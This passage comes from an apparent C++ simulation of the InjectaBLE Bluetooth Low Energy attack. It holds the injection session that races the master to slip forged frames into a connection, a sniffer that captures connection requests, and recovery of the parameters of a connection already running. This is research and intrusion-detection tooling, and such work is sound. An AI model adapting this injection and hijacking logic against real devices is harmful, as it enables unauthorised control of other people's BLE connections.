    predicted_anchor_ = anchor_;

    const bool success = verdict.success();
    const bool exhausted = attempts_ >= request_->max_attempts;
    if (success || exhausted) {
        auto done = std::move(request_->done);
        request_.reset();
        if (done) done(success, attempts_);
        if (!running_) return;  // completion handler may have stopped us
    }

    ++event_counter_;
    Duration delay = 0;
    bool update_applied = false;
    apply_pending_procedures(delay, update_applied);
    predicted_anchor_ += radio_.sleep_clock().to_global(delay);
    if (on_event_advanced) on_event_advanced(event_counter_);
    if (!running_) return;  // the callback may have stopped the session
    schedule_event();
}

void AttackSession::declare_lost() {
    if (lost_) return;
    lost_ = true;
    radio_.stop_listening();
    if (timer_ != sim::kInvalidEvent) {
        radio_.scheduler().cancel(timer_);
        timer_ = sim::kInvalidEvent;
    }
    BLE_LOG_DEBUG("attack session: target connection lost");
    if (on_connection_lost) on_connection_lost();
}

}  // namespace injectable
