// AttackSession: the heart of InjectaBLE (paper §V).
//
// One session tracks one target connection with the attacker's single
// half-duplex radio, alternating between two per-event modes:
//
//  * OBSERVE — sniff the connection event passively: re-anchor on the
//    master's frame, harvest the slave's SN/NESN bits (needed by Eq. 6) and
//    any control procedures (connection/channel-map updates) so the model
//    stays synchronised with the hopping.
//  * INJECT — race the legitimate master (challenge C1/C2): transmit the
//    forged frame at the very start of the slave's widened receive window
//    (predicted anchor − Eq. 5 widening, plus the attacker's own TX-chain
//    latency), then turn the radio around and listen for the slave's
//    response to run the Eq. 7 heuristic (challenge C3).
//
// Injection attempts only run in an event whose *predecessor* was observed
// ("the attacker should have observed in the connection event preceding the
// injection attempt a frame transmitted by the Slave"), so failed attempts
// alternate with re-synchronisation events.
#pragma once

#include <functional>
#include <memory>
#include <optional>

#include "core/attacker_radio.hpp"
#include "core/heuristic.hpp"
#include "link/adv_pdu.hpp"
#include "link/channel_selection.hpp"
#include "link/connection.hpp"
#include "link/control_pdu.hpp"

using ble::operator""_ms;
using ble::operator""_us;

namespace injectable {

/// What the sniffer captured about the target connection.
struct SniffedConnection {
    ble::link::ConnectionParams params;
    /// End of the CONNECT_REQ transmission (the Eq. 1 time reference), or the
    /// anchor the recovery procedure synchronised on.
    ble::TimePoint time_reference = 0;
    /// True when parameters come from a sniffed CONNECT_REQ; false when they
    /// were recovered from an already-running connection (in which case the
    /// absolute connection-event counter is unknown).
    bool from_connect_req = true;
    /// For recovered connections: the CSA#1 unmapped channel at
    /// `time_reference` (the channel the recovery locked onto).
    std::uint8_t recovered_unmapped_channel = 0;
};

/// One frame overheard while following the connection.
struct SniffedPacket {
    enum class Sender : std::uint8_t { kMaster, kSlave };
    Sender sender = Sender::kMaster;
    ble::link::DataPdu pdu;
    bool crc_ok = true;
    ble::TimePoint start = 0;
    ble::TimePoint end = 0;
    std::uint8_t channel = 0;
    std::uint16_t event_counter = 0;
};

/// One injection attempt, as the attacker saw it.
struct AttemptReport {
    int attempt = 0;  // 1-based
    std::uint16_t event_counter = 0;
    std::uint8_t channel = 0;
    InjectionObservation observation;
    HeuristicVerdict verdict;
};

struct AttackParams {
        /// Slave SCA assumed when computing the widening (paper: 20 ppm, "the
        /// worst case from the attacker's perspective").
        double assumed_slave_sca_ppm = 20.0;
        /// Extra listening margin beyond the estimated widening when
        /// observing (generous; observation is cheap).
        ble::Duration listen_margin = ble::microseconds(150);
        /// TX-chain turnaround latency: the injected frame leaves the antenna
        /// this long after the ideal window start, modelled half-normal
        /// (mean + |N(0, sd)|). Radio ramp-up and firmware scheduling on the
        /// nRF52840 put this in the microsecond range.
        ble::Duration tx_latency_mean = ble::microseconds(10);
        ble::Duration tx_latency_sd = ble::microseconds(14);
        /// Occasional firmware hiccup: with this probability the injection
        /// leaves up to `hiccup_max` late — at small hop intervals (small
        /// widening) a hiccup forfeits the race outright.
        double hiccup_prob = 0.1;
        ble::Duration hiccup_max = ble::microseconds(60);
        /// Firmware turnaround budget: with probability
        /// turnaround_time / connInterval the dongle has not finished
        /// digesting the previous exchange when the window opens and fires
        /// *late* — forfeiting the race for that attempt. This is the
        /// duty-cycle pressure a real dongle feels at small hop intervals.
        ble::Duration turnaround_time = 3_ms;
    /// Give up following after this many consecutive missed events.
    int max_missed_events = 12;
    /// Track sniffed CONNECTION_UPDATE/CHANNEL_MAP procedures in the hopping
    /// model (true for attacking; an IDS sets false to deliberately stay on
    /// the *old* cadence and see whether the master really applied it).
    bool apply_sniffed_updates = true;
    /// Declare the connection lost when a TERMINATE_IND is sniffed (true for
    /// attacking; an IDS sets false — continued traffic after a terminate is
    /// precisely the slave-hijack signature it wants to observe).
    bool stop_on_terminate = true;
};

class AttackSession {
public:
    using Params = AttackParams;

    AttackSession(AttackerRadio& radio, SniffedConnection target, Params params = {});
    ~AttackSession();

    AttackSession(const AttackSession&) = delete;
    AttackSession& operator=(const AttackSession&) = delete;

    /// Starts following the connection from `target.time_reference`.
    void start();
    /// Releases the radio (handlers unbound); scenario code calls this before
    /// handing the radio to a hijacked-role Connection.
    void stop();

    struct InjectionRequest {
        ble::link::Llid llid = ble::link::Llid::kDataStart;
        ble::Bytes payload;
        int max_attempts = 50;
        /// Completion: success flag + number of attempts consumed.
        std::function<void(bool success, int attempts)> done;
    };
    /// Queues a frame for injection starting at the next eligible event.
    void inject(InjectionRequest request);
    [[nodiscard]] bool injecting() const noexcept { return request_.has_value(); }

    // --- observers / attacker knowledge ---
    std::function<void(const SniffedPacket&)> on_packet;
    std::function<void(const AttemptReport&)> on_attempt;
    /// Connection vanished (TERMINATE sniffed or too many missed events).
    std::function<void()> on_connection_lost;
    /// A master-initiated procedure was sniffed (kept for scenario D).
    std::function<void(const ble::link::ConnectionUpdateInd&)> on_update_sniffed;
    /// Fired after every event with the *new* counter value — scenarios C/D
    /// use it to act exactly at their forged update's instant.
    std::function<void(std::uint16_t)> on_event_advanced;

    /// The most recent injection attempt (valid once on_attempt has fired).
    [[nodiscard]] const std::optional<AttemptReport>& last_attempt() const noexcept {
        return last_attempt_;
    }

    [[nodiscard]] const ble::link::ConnectionParams& params() const noexcept {
        return params_;
    }
    /// Counter of the next connection event the session will process.
    [[nodiscard]] std::uint16_t event_counter() const noexcept { return event_counter_; }
    [[nodiscard]] ble::TimePoint last_anchor() const noexcept { return anchor_; }
    [[nodiscard]] ble::TimePoint predicted_next_anchor() const noexcept {
        return predicted_anchor_;
    }
    /// Eq. 5 widening the attacker assumes for the next event.
    [[nodiscard]] ble::Duration estimated_widening() const noexcept;
    /// SN/NESN of the most recent slave (resp. master) frame, once seen.
    [[nodiscard]] std::optional<std::pair<bool, bool>> slave_bits() const noexcept {
        return slave_bits_;
    }
    [[nodiscard]] std::optional<std::pair<bool, bool>> master_bits() const noexcept {
        return master_bits_;
    }
    /// Clone of the hopping state (for hijacked-role Connections).
    [[nodiscard]] std::unique_ptr<ble::link::ChannelSelector> clone_selector() const {
        return selector_->clone();
    }
    [[nodiscard]] bool lost() const noexcept { return lost_; }
    [[nodiscard]] AttackerRadio& radio() noexcept { return radio_; }

private:
    enum class Mode : std::uint8_t { kObserve, kInject };

    void schedule_event();
    void begin_observe_event();
    void begin_inject_event();
    void close_observe_event();
    void finish_attempt();
    void handle_rx(const ble::sim::RxFrame& frame);
    void handle_tx_complete();
    void apply_pending_procedures(ble::Duration& delay, bool& update_applied);
    void declare_lost();

    AttackerRadio& radio_;
    Params attack_params_;
    SniffedConnection target_;

    ble::link::ConnectionParams params_;
    std::unique_ptr<ble::link::ChannelSelector> selector_;
    bool running_ = false;
    bool lost_ = false;

    // Timing model.
    std::uint16_t event_counter_ = 0;
    std::uint8_t channel_ = 0;
    ble::TimePoint anchor_ = 0;          // last *observed* anchor
    ble::TimePoint predicted_anchor_ = 0;
    int missed_events_ = 0;
    ble::sim::EventId timer_ = ble::sim::kInvalidEvent;
    std::shared_ptr<char> alive_ = std::make_shared<char>(0);

    // Flow-control knowledge (Eq. 6 inputs).
    std::optional<std::pair<bool, bool>> slave_bits_;
    std::optional<std::pair<bool, bool>> master_bits_;
    bool slave_bits_fresh_ = false;  // observed in the immediately previous event

    // In-event state.
    Mode mode_ = Mode::kObserve;
    int frames_this_event_ = 0;
    bool anchored_this_event_ = false;

    // Pending procedures sniffed off the air.
    std::optional<ble::link::ConnectionUpdateInd> pending_update_;
    std::optional<ble::link::ChannelMapInd> pending_map_;

    // Injection state.
    std::optional<AttemptReport> last_attempt_;
    std::optional<InjectionRequest> request_;
    int attempts_ = 0;
    InjectionObservation observation_;
    bool awaiting_response_ = false;

    ble::sim::EventId guarded_at(ble::TimePoint t, std::function<void()> fn);
};

}  // namespace injectable
