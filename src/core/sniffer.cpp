#include "core/sniffer.hpp"

#include <cmath>

#include "common/log.hpp"
#include "phy/access_address.hpp"
#include "phy/crc.hpp"
#include "phy/frame.hpp"

namespace injectable {

using namespace ble;

namespace {
constexpr sim::Channel kAdvChannels[3] = {37, 38, 39};
/// Frames closer than this belong to the same connection event.
constexpr Duration kEventClusterGap = 3_ms;
/// If the advertiser goes quiet on the followed channel, return to 37.
constexpr Duration kFollowTimeout = 120_ms;
}  // namespace

// --- AdvSniffer ---

AdvSniffer::AdvSniffer(AttackerRadio& radio) : radio_(radio) {}

AdvSniffer::~AdvSniffer() { stop(); }

void AdvSniffer::start() {
    running_ = true;
    channel_index_ = 0;
    radio_.rx_handler = [this](const sim::RxFrame& frame) { handle_rx(frame); };
    radio_.listen(kAdvChannels[0]);
    rearm_home_channel();
}

void AdvSniffer::stop() {
    if (!running_) return;  // idempotent: a later stop (e.g. the destructor)
                            // must not clobber handlers rebound by others
    running_ = false;
    alive_ = std::make_shared<char>(0);
    if (timer_ != sim::kInvalidEvent) {
        radio_.scheduler().cancel(timer_);
        timer_ = sim::kInvalidEvent;
    }
    radio_.rx_handler = nullptr;
    radio_.stop_listening();
}

void AdvSniffer::rearm_home_channel() {
    if (timer_ != sim::kInvalidEvent) radio_.scheduler().cancel(timer_);
    timer_ = radio_.scheduler().schedule_after(
        kFollowTimeout, [alive = std::weak_ptr<char>(alive_), this] {
            if (!alive.lock() || !running_) return;
            channel_index_ = 0;
            radio_.listen(kAdvChannels[0]);
            rearm_home_channel();
        });
}

void AdvSniffer::handle_rx(const sim::RxFrame& frame) {
    if (!running_) return;
    const auto raw = phy::split_frame(frame.bytes);
    if (!raw || raw->access_address != phy::kAdvertisingAccessAddress) return;
    if (!raw->crc_ok(phy::kAdvertisingCrcInit)) return;
    const auto pdu = link::AdvPdu::parse(raw->pdu);
    if (!pdu) return;

    if (on_advertisement) on_advertisement(*pdu, frame.end, frame.channel);

    if (pdu->type == link::AdvPduType::kConnectReq) {
        if (const auto req = link::ConnectReqPdu::parse(*pdu)) {
            SniffedConnection sniffed;
            sniffed.params = req->params;
            sniffed.time_reference = frame.end;
            sniffed.from_connect_req = true;
            BLE_LOG_INFO("sniffer: CONNECT_REQ captured (AA=0x", std::hex,
                         req->params.access_address, std::dec, ", hop interval ",
                         req->params.hop_interval, ")");
            if (on_connection) on_connection(sniffed, *req);
        }
        return;
    }

    if (pdu->type == link::AdvPduType::kAdvInd) {
        // Sniffle-style follow: a CONNECT_REQ (or SCAN_REQ) starts exactly
        // T_IFS after this ADV_IND, on this channel — if nothing has started
        // by then, hop to the advertiser's next channel before its next PDU
        // (~T_IFS + frame + turnaround later). If a frame *is* inbound, stay:
        // it is the packet we are hunting.
        channel_index_ = (channel_index_ + 1) % 3;
        const sim::Channel next = kAdvChannels[channel_index_];
        // injectable-lint: allow(D4) -- weak-ptr alive guard inside the lambda
        (void)radio_.scheduler().schedule_at(
            frame.end + kTifs + 20_us,
            [alive = std::weak_ptr<char>(alive_), this, next] {
                if (!alive.lock() || !running_) return;
                if (!radio_.receiving()) radio_.listen(next);
            });
        rearm_home_channel();
    }
}

// --- ConnectionRecovery ---

std::uint8_t mod37_inverse(std::uint8_t value) noexcept {
    const std::uint8_t v = value % 37;
    if (v == 0) return 0;
    for (std::uint8_t candidate = 1; candidate < 37; ++candidate) {
        if ((v * candidate) % 37 == 1) return candidate;
    }
    return 0;  // unreachable: 37 is prime
}

ConnectionRecovery::ConnectionRecovery(AttackerRadio& radio, Params params)
    : radio_(radio), params_(params) {}

ConnectionRecovery::~ConnectionRecovery() { stop(); }

void ConnectionRecovery::start() {
    running_ = true;
    radio_.rx_handler = [this](const sim::RxFrame& frame) { handle_rx(frame); };
    radio_.listen(params_.first_channel);
    if (on_progress) on_progress("aa");
}

void ConnectionRecovery::stop() {
    if (!running_) return;  // idempotent; see AdvSniffer::stop()
    running_ = false;
    radio_.rx_handler = nullptr;
    radio_.stop_listening();
}

void ConnectionRecovery::handle_rx(const sim::RxFrame& frame) {
    if (!running_) return;
    const auto raw = phy::split_frame(frame.bytes);
    if (!raw) return;

    // Phase 1 — access address: every data frame leaks it in the clear. Empty
    // data PDUs (llid 01, len 0) are the reliable tell of connection traffic.
    if (!aa_) {
        if (raw->access_address == phy::kAdvertisingAccessAddress) return;
        const bool looks_like_data =
            raw->pdu.size() >= 2 && (raw->pdu[0] & 0b11) != 0b00;
        if (!looks_like_data) return;
        if (++aa_sightings_[raw->access_address] >= params_.aa_confirmations) {
            aa_ = raw->access_address;
            if (on_progress) on_progress("crc");
        }
        return;
    }
    if (raw->access_address != *aa_) return;

    // Phase 2 — CRCInit: run the CRC LFSR backwards from the received CRC
    // (valid frames all yield the same init).
    if (!crc_init_) {
        const std::uint32_t candidate = phy::crc24_reverse(raw->pdu, raw->crc);
        if (++crc_candidates_[candidate] >= 2) {
            crc_init_ = candidate;
            if (on_progress) on_progress("interval");
        }
        return;
    }

    // Anchor clustering: the first frame after a gap is the master's.
    const bool new_event = frame.start - last_frame_end_ > kEventClusterGap;
    last_frame_end_ = frame.end;
    if (!new_event) return;

    // Phase 3 — hop interval: with all 37 channels in use, CSA#1 revisits a
    // given channel every 37 events.
    if (!hop_interval_) {
        anchors_first_channel_.push_back(frame.start);
        // Three sightings give two deltas: the minimum filters out a missed
        // revisit (which would double the apparent period).
        if (anchors_first_channel_.size() >= 3) {
            Duration min_delta = 0;
            for (std::size_t i = 1; i < anchors_first_channel_.size(); ++i) {
                const Duration d =
                    anchors_first_channel_[i] - anchors_first_channel_[i - 1];
                if (min_delta == 0 || d < min_delta) min_delta = d;
            }
            const double units =
                static_cast<double>(min_delta) / (37.0 * static_cast<double>(kUnit1250us));
            const auto interval = static_cast<std::uint16_t>(std::llround(units));
            if (interval >= 6) {
                hop_interval_ = interval;
                on_second_channel_ = true;
                radio_.listen(params_.second_channel);
                if (on_progress) on_progress("hop");
            }
        }
        return;
    }

    // Phase 4 — hop increment: measure how many events separate channel c
    // from channel c+1; hopIncrement is the inverse of that count mod 37.
    if (!hop_increment_ && on_second_channel_) {
        const Duration interval = connection_interval(*hop_interval_);
        const Duration since = frame.start - anchors_first_channel_.back();
        const auto events =
            static_cast<std::uint32_t>(std::llround(static_cast<double>(since) /
                                                    static_cast<double>(interval)));
        const auto delta = static_cast<std::uint8_t>(events % 37);
        const std::uint8_t channel_gap = static_cast<std::uint8_t>(
            (params_.second_channel + 37 - params_.first_channel) % 37);
        if (delta == 0) return;  // measurement glitch; wait for next sighting
        // delta * hop == channel_gap (mod 37)  =>  hop = gap * delta^-1.
        const std::uint8_t hop = static_cast<std::uint8_t>(
            (channel_gap * mod37_inverse(delta)) % 37);
        if (hop < 5 || hop > 16) return;  // outside the legal range: retry
        hop_increment_ = hop;
        finish(frame.start);
    }
}

void ConnectionRecovery::finish(TimePoint anchor) {
    SniffedConnection sniffed;
    sniffed.params.access_address = *aa_;
    sniffed.params.crc_init = *crc_init_;
    sniffed.params.hop_interval = *hop_interval_;
    sniffed.params.hop_increment = *hop_increment_;
    sniffed.params.channel_map = link::ChannelMap{};  // technique assumes full map
    sniffed.params.master_sca = params_.assumed_master_sca_field;
    sniffed.time_reference = anchor;
    sniffed.from_connect_req = false;
    sniffed.recovered_unmapped_channel = params_.second_channel;
    running_ = false;
    radio_.rx_handler = nullptr;
    radio_.stop_listening();
    BLE_LOG_INFO("recovery: synchronised with existing connection (AA=0x", std::hex, *aa_,
                 std::dec, ", hop interval ", *hop_interval_, ", increment ",
                 static_cast<int>(*hop_increment_), ")");
    if (on_recovered) on_recovered(sniffed);
}

}  // namespace injectable
