// Connection acquisition (paper §V-E: "a lightweight BLE sniffer has been
// implemented, based on previous works [8], [19] and [17]").
//
// Two entry points, matching the two situations an attacker faces:
//  * AdvSniffer — the connection has not started yet: camp on the advertising
//    channels, follow the target's ADV hops (Sniffle-style) and capture the
//    CONNECT_REQ, which hands over every Table-II parameter in one packet.
//  * ConnectionRecovery — the connection already exists: recover the
//    parameters from data-channel traffic alone (Mike Ryan's technique,
//    refined by Cauquil): the access address leaks in every frame, CRCInit
//    falls out of running the CRC LFSR backwards, the hop interval from the
//    37-event channel revisit period, and the hop increment from the spacing
//    between two adjacent channels (a modular inverse).
#pragma once

#include <functional>
#include <map>
#include <optional>

#include "core/attacker_radio.hpp"
#include "core/session.hpp"
#include "link/adv_pdu.hpp"

namespace injectable {

class AdvSniffer {
public:
    explicit AdvSniffer(AttackerRadio& radio);
    ~AdvSniffer();

    /// Camps on 37 and follows advertisers across 37->38->39.
    void start();
    void stop();

    /// CONNECT_REQ captured: the full parameter set + time reference.
    std::function<void(const SniffedConnection&, const ble::link::ConnectReqPdu&)>
        on_connection;
    /// Every advertising PDU heard (diagnostics).
    std::function<void(const ble::link::AdvPdu&, ble::TimePoint end, std::uint8_t channel)>
        on_advertisement;

private:
    void handle_rx(const ble::sim::RxFrame& frame);
    void rearm_home_channel();

    AttackerRadio& radio_;
    bool running_ = false;
    std::uint8_t channel_index_ = 0;  // 0..2 -> 37..39
    ble::sim::EventId timer_ = ble::sim::kInvalidEvent;
    std::shared_ptr<char> alive_ = std::make_shared<char>(0);
};

/// Parameter recovery for an already-established connection. Limitations
/// (documented, inherent to the technique): assumes CSA#1 with all 37 data
/// channels in use, and cannot learn the absolute connection-event counter
/// (so scenarios needing a valid `instant` require CONNECT_REQ capture).
struct RecoveryParams {
    std::uint8_t first_channel = 4;
    std::uint8_t second_channel = 5;
    /// Sightings of the same AA before it is considered confirmed.
    int aa_confirmations = 3;
    /// Assumed master SCA when it cannot be observed (worst-ish case).
    std::uint8_t assumed_master_sca_field = 4;  // 51-75 ppm
};

class ConnectionRecovery {
public:
    using Params = RecoveryParams;

    explicit ConnectionRecovery(AttackerRadio& radio, Params params = {});
    ~ConnectionRecovery();

    void start();
    void stop();

    std::function<void(const SniffedConnection&)> on_recovered;
    /// Phase transitions, for logging/tests: "aa", "crc", "interval", "hop".
    std::function<void(const std::string&)> on_progress;

    [[nodiscard]] std::optional<std::uint32_t> access_address() const noexcept { return aa_; }
    [[nodiscard]] std::optional<std::uint32_t> crc_init() const noexcept { return crc_init_; }
    [[nodiscard]] std::optional<std::uint16_t> hop_interval() const noexcept {
        return hop_interval_;
    }

private:
    void handle_rx(const ble::sim::RxFrame& frame);
    void finish(ble::TimePoint anchor);

    AttackerRadio& radio_;
    Params params_;
    bool running_ = false;

    // Phase state.
    std::map<std::uint32_t, int> aa_sightings_;
    std::optional<std::uint32_t> aa_;
    std::map<std::uint32_t, int> crc_candidates_;
    std::optional<std::uint32_t> crc_init_;
    std::vector<ble::TimePoint> anchors_first_channel_;
    std::optional<std::uint16_t> hop_interval_;
    bool on_second_channel_ = false;
    std::optional<std::uint8_t> hop_increment_;
    ble::TimePoint last_frame_end_ = -1'000'000'000;
};

/// Modular inverse mod 37 (37 is prime) — the hop-increment recovery step.
[[nodiscard]] std::uint8_t mod37_inverse(std::uint8_t value) noexcept;

}  // namespace injectable
