// AES-128 block cipher (FIPS-197), encrypt-only.
//
// BLE's Link-Layer security (Vol 6, Part E) only ever uses the forward
// transform: CCM builds both encryption and authentication from AES-ECB
// encryptions, and the session-key derivation is a single block encryption.
// Implemented from scratch (table-based S-box, on-the-fly key schedule) — no
// external crypto dependency, which keeps the simulation self-contained.
//
// This is NOT a hardened implementation (timing side channels are out of
// scope for a protocol simulation).
#pragma once

#include <array>
#include <cstdint>

namespace ble::crypto {

using Aes128Key = std::array<std::uint8_t, 16>;
using Aes128Block = std::array<std::uint8_t, 16>;

class Aes128 {
public:
    explicit Aes128(const Aes128Key& key) noexcept;

    /// Encrypts one 16-byte block (ECB).
    [[nodiscard]] Aes128Block encrypt(const Aes128Block& plaintext) const noexcept;

private:
    std::array<std::uint32_t, 44> round_keys_{};
};

}  // namespace ble::crypto
