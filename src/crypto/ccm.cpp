#include "crypto/ccm.hpp"

#include <algorithm>

namespace ble::crypto {

namespace {
constexpr std::size_t kBlock = 16;
}

Aes128Block AesCcm::keystream_block(const CcmNonce& nonce, std::uint16_t counter) const {
    // A_i block: flags(L-1 = 1) | nonce | counter (big-endian, 2 bytes).
    Aes128Block a{};
    a[0] = 0x01;
    std::copy(nonce.begin(), nonce.end(), a.begin() + 1);
    a[14] = static_cast<std::uint8_t>(counter >> 8);
    a[15] = static_cast<std::uint8_t>(counter & 0xFF);
    return aes_.encrypt(a);
}

std::array<std::uint8_t, kMicSize> AesCcm::compute_mic(const CcmNonce& nonce, BytesView aad,
                                                       BytesView payload) const {
    // B_0: flags | nonce | message length.
    // flags = (aad present) << 6 | ((M-2)/2) << 3 | (L-1)  with M=4, L=2.
    Aes128Block b0{};
    b0[0] = static_cast<std::uint8_t>((aad.empty() ? 0x00 : 0x40) | (((kMicSize - 2) / 2) << 3) |
                                      0x01);
    std::copy(nonce.begin(), nonce.end(), b0.begin() + 1);
    b0[14] = static_cast<std::uint8_t>(payload.size() >> 8);
    b0[15] = static_cast<std::uint8_t>(payload.size() & 0xFF);

    Aes128Block x = aes_.encrypt(b0);

    // AAD blocks: length prefix (2 bytes, since aad < 2^16 - 2^8) then data,
    // zero-padded to a block boundary.
    if (!aad.empty()) {
        Bytes a;
        a.push_back(static_cast<std::uint8_t>(aad.size() >> 8));
        a.push_back(static_cast<std::uint8_t>(aad.size() & 0xFF));
        a.insert(a.end(), aad.begin(), aad.end());
        while (a.size() % kBlock != 0) a.push_back(0);
        for (std::size_t off = 0; off < a.size(); off += kBlock) {
            for (std::size_t i = 0; i < kBlock; ++i) x[i] ^= a[off + i];
            x = aes_.encrypt(x);
        }
    }

    // Payload blocks, zero-padded.
    for (std::size_t off = 0; off < payload.size(); off += kBlock) {
        const std::size_t n = std::min(kBlock, payload.size() - off);
        for (std::size_t i = 0; i < n; ++i) x[i] ^= payload[off + i];
        x = aes_.encrypt(x);
    }

    // MIC = first M bytes of X XOR S_0.
    const Aes128Block s0 = keystream_block(nonce, 0);
    std::array<std::uint8_t, kMicSize> mic{};
    for (std::size_t i = 0; i < kMicSize; ++i) mic[i] = x[i] ^ s0[i];
    return mic;
}

Bytes AesCcm::seal(const CcmNonce& nonce, BytesView aad, BytesView payload) const {
    Bytes out;
    out.reserve(payload.size() + kMicSize);
    for (std::size_t off = 0; off < payload.size(); off += kBlock) {
        const Aes128Block s =
            keystream_block(nonce, static_cast<std::uint16_t>(off / kBlock + 1));
        const std::size_t n = std::min(kBlock, payload.size() - off);
        for (std::size_t i = 0; i < n; ++i) {
            out.push_back(static_cast<std::uint8_t>(payload[off + i] ^ s[i]));
        }
    }
    const auto mic = compute_mic(nonce, aad, payload);
    out.insert(out.end(), mic.begin(), mic.end());
    return out;
}

std::optional<Bytes> AesCcm::open(const CcmNonce& nonce, BytesView aad,
                                  BytesView sealed) const {
    if (sealed.size() < kMicSize) return std::nullopt;
    const std::size_t payload_len = sealed.size() - kMicSize;

    Bytes plain;
    plain.reserve(payload_len);
    for (std::size_t off = 0; off < payload_len; off += kBlock) {
        const Aes128Block s =
            keystream_block(nonce, static_cast<std::uint16_t>(off / kBlock + 1));
        const std::size_t n = std::min(kBlock, payload_len - off);
        for (std::size_t i = 0; i < n; ++i) {
            plain.push_back(static_cast<std::uint8_t>(sealed[off + i] ^ s[i]));
        }
    }

    const auto mic = compute_mic(nonce, aad, plain);
    // Constant-time-ish comparison (not a real hardening concern in a sim,
    // but cheap to do right).
    std::uint8_t diff = 0;
    for (std::size_t i = 0; i < kMicSize; ++i) {
        diff |= static_cast<std::uint8_t>(mic[i] ^ sealed[payload_len + i]);
    }
    if (diff != 0) return std::nullopt;
    return plain;
}

}  // namespace ble::crypto
