// AES-CCM (RFC 3610) with the Bluetooth LE Link-Layer parameters:
// 13-byte nonce (L = 2) and a 4-byte MIC (M = 4).
#pragma once

#include <array>
#include <cstdint>
#include <optional>

#include "common/bytes.hpp"
#include "crypto/aes128.hpp"

namespace ble::crypto {

using CcmNonce = std::array<std::uint8_t, 13>;
constexpr std::size_t kMicSize = 4;

class AesCcm {
public:
    explicit AesCcm(const Aes128Key& key) noexcept : aes_(key) {}

    /// Returns ciphertext || MIC (payload.size() + 4 bytes).
    [[nodiscard]] Bytes seal(const CcmNonce& nonce, BytesView aad, BytesView payload) const;

    /// Opens ciphertext || MIC; nullopt if the MIC does not verify.
    [[nodiscard]] std::optional<Bytes> open(const CcmNonce& nonce, BytesView aad,
                                            BytesView sealed) const;

private:
    [[nodiscard]] std::array<std::uint8_t, kMicSize> compute_mic(const CcmNonce& nonce,
                                                                 BytesView aad,
                                                                 BytesView payload) const;
    [[nodiscard]] Aes128Block keystream_block(const CcmNonce& nonce,
                                              std::uint16_t counter) const;

    Aes128 aes_;
};

}  // namespace ble::crypto
