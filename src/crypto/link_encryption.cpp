#include "crypto/link_encryption.hpp"

#include <algorithm>

namespace ble::crypto {

Aes128Key derive_session_key(const SessionMaterial& material) noexcept {
    Aes128Block skd{};
    std::copy(material.skd_m.begin(), material.skd_m.end(), skd.begin());
    std::copy(material.skd_s.begin(), material.skd_s.end(), skd.begin() + 8);
    return Aes128(material.ltk).encrypt(skd);
}

LinkEncryption::LinkEncryption(const SessionMaterial& material)
    : ccm_(derive_session_key(material)) {
    std::copy(material.iv_m.begin(), material.iv_m.end(), iv_.begin());
    std::copy(material.iv_s.begin(), material.iv_s.end(), iv_.begin() + 4);
}

CcmNonce LinkEncryption::make_nonce(std::uint64_t packet_counter,
                                    bool master_direction) const noexcept {
    CcmNonce nonce{};
    // 39-bit counter, least significant octet first; direction bit is the MSB
    // of the fifth octet.
    for (int i = 0; i < 5; ++i) {
        nonce[static_cast<std::size_t>(i)] =
            static_cast<std::uint8_t>((packet_counter >> (8 * i)) & 0xFF);
    }
    nonce[4] = static_cast<std::uint8_t>((nonce[4] & 0x7F) |
                                         (master_direction ? 0x80 : 0x00));
    std::copy(iv_.begin(), iv_.end(), nonce.begin() + 5);
    return nonce;
}

Bytes LinkEncryption::encrypt(std::uint8_t first_header_byte, BytesView payload,
                              bool sender_is_master) {
    const std::uint64_t pc = counter(sender_is_master)++;
    const Bytes aad{first_header_byte};
    return ccm_.seal(make_nonce(pc, sender_is_master), aad, payload);
}

std::optional<Bytes> LinkEncryption::decrypt(std::uint8_t first_header_byte,
                                             BytesView payload, bool sender_is_master) {
    const Bytes aad{first_header_byte};
    std::uint64_t& expected = counter(sender_is_master);
    for (std::uint64_t delta = 0; delta < kCounterWindow; ++delta) {
        const std::uint64_t pc = expected + delta;
        if (auto plain = ccm_.open(make_nonce(pc, sender_is_master), aad, payload)) {
            expected = pc + 1;  // resync
            return plain;
        }
    }
    return std::nullopt;
}

}  // namespace ble::crypto
