// Link-Layer encryption session (Vol 6, Part E) plugged into
// link::Connection via the LinkCrypto interface.
//
// Key material:
//   SK  = AES-128_LTK(SKD),  SKD = SKDm || SKDs  (halves from LL_ENC_REQ/RSP)
//   IV  = IVm || IVs
//   nonce = 39-bit per-direction packet counter | direction bit | IV
//   AAD = the PDU's first header byte with SN/NESN/MD masked.
//
// Each direction counts its own encrypted packets. Our Connection re-seals a
// retransmitted PDU (instead of caching ciphertext like silicon does), so the
// receiver accepts a small forward window of packet counters and resyncs on
// success; the security-relevant property the paper depends on — an attacker
// without the session key cannot produce a valid MIC, so injection collapses
// to denial of service — is preserved exactly.
#pragma once

#include <array>
#include <cstdint>

#include "crypto/ccm.hpp"
#include "link/connection.hpp"

namespace ble::crypto {

struct SessionMaterial {
    Aes128Key ltk{};
    std::array<std::uint8_t, 8> skd_m{};
    std::array<std::uint8_t, 8> skd_s{};
    std::array<std::uint8_t, 4> iv_m{};
    std::array<std::uint8_t, 4> iv_s{};
};

/// Derives the session key SK = AES-128_LTK(SKDm || SKDs).
[[nodiscard]] Aes128Key derive_session_key(const SessionMaterial& material) noexcept;

class LinkEncryption final : public link::LinkCrypto {
public:
    explicit LinkEncryption(const SessionMaterial& material);

    Bytes encrypt(std::uint8_t first_header_byte, BytesView payload,
                  bool sender_is_master) override;
    std::optional<Bytes> decrypt(std::uint8_t first_header_byte, BytesView payload,
                                 bool sender_is_master) override;
    [[nodiscard]] std::size_t mic_size() const noexcept override { return kMicSize; }

    /// Packets sealed so far in each direction (diagnostics / tests).
    [[nodiscard]] std::uint64_t tx_count(bool master_direction) const noexcept {
        return counter(master_direction);
    }

private:
    [[nodiscard]] CcmNonce make_nonce(std::uint64_t packet_counter,
                                      bool master_direction) const noexcept;
    [[nodiscard]] std::uint64_t& counter(bool master_direction) noexcept {
        return master_direction ? counter_m_ : counter_s_;
    }
    [[nodiscard]] const std::uint64_t& counter(bool master_direction) const noexcept {
        return master_direction ? counter_m_ : counter_s_;
    }

    AesCcm ccm_;
    std::array<std::uint8_t, 8> iv_{};
    std::uint64_t counter_m_ = 0;  // master -> slave packets
    std::uint64_t counter_s_ = 0;  // slave -> master packets

    /// Retransmission tolerance (see header comment).
    static constexpr std::uint64_t kCounterWindow = 8;
};

}  // namespace ble::crypto
