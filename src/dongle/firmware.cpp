#include "dongle/firmware.hpp"

#include "common/log.hpp"

namespace injectable::dongle {

using ble::ByteReader;
using ble::Bytes;
using ble::BytesView;
using ble::ByteWriter;

